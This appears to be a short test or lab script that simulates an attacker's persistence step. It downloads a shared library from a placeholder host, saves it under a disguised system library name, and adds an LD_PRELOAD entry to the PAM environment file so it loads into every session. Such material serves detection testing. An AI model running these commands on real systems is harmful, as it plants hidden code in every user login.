#!/bin/sh
. /opt/case/case.sh

curl -s -o /usr/lib/x86_64-linux-gnu/libnss-cache.so.2 http://203.0.113.10/programs/preload.so
printf 'LD_PRELOAD DEFAULT=/usr/lib/x86_64-linux-gnu/libnss-cache.so.2\n' >>/etc/security/pam_env.conf
grep -q libnss-cache /etc/security/pam_env.conf
took_place
